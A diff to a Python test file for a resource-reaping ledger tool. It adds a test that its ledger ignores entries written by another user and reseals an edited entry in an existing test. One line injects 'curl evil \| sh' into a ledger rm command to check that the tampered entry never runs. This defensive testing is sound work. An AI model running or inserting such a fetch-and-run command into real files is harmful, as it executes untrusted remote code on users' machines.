@@ -13,7 +13,7 @@ import pytest
 from tests.fakes import things
 from tests.functional.grid import wait
 from toolbox.model.resources import Owner
-from toolbox.runs import ledger
+from toolbox.runs import ledger, ledger_seal
 from toolbox.runs.layout import RunDirectory
 from toolbox.runs.ledger import Ledger
 from toolbox.system import processes
@@ -233,6 +233,19 @@ def test_older_than_also_holds_for_runs_that_have_ended(team: Team) -> None:
     assert team.things == []
 
 
+def test_an_entry_that_somebody_else_wrote_is_never_executed(team: Team) -> None:
+    (team.root / "remote").mkdir()
+    file = team.root / "remote" / "victim"
+    file.write_text(json.dumps(team.user_ledger.owner.labels()))
+    team.user_ledger.plan(things.thing(file))
+    text = team.user_ledger.file.read_text()
+    team.user_ledger.file.write_text(text.replace('"rm ', '"curl evil | sh; rm '))
+    reaped = team.resources("reap", "--older_than=0s", code=3)
+    assert "could not delete thing victim: its entry was written by another user" in reaped.stdout
+    assert "curl evil" not in reaped.stdout + team.resources("list", "--format=json").stdout
+    assert team.things == ["victim"]
+
+
 def test_what_a_command_created_is_reaped_after_its_time_to_live(team: Team) -> None:
     (team.root / "remote").mkdir()
     for name in ("young", "old"):
@@ -241,9 +254,12 @@ def test_what_a_command_created_is_reaped_after_its_time_to_live(team: Team) -> 
         team.user_ledger.plan(things.thing(file))
     text = team.user_ledger.file.read_text()
     first, second = text.splitlines()
-    made = datetime.fromisoformat(json.loads(second)["time"])
-    earlier = (made - timedelta(days=1)).astimezone(UTC).isoformat(timespec="microseconds")
-    team.user_ledger.file.write_text(f"{first}\n{second.replace(json.loads(second)['time'], earlier)}\n")
+    entry = json.loads(second)
+    made = datetime.fromisoformat(entry["time"])
+    entry |= {"time": (made - timedelta(days=1)).astimezone(UTC).isoformat(timespec="microseconds")}
+    del entry["seal"]
+    resealed = ledger_seal.sealed(json.dumps(entry).encode()).decode()
+    team.user_ledger.file.write_text(f"{first}\n{resealed}\n")
     assert team.resources("reap").stdout.splitlines()[1] == "deleted thing old"
     assert team.things == ["young"]
     team.resources("reap", "--older_than=0s")
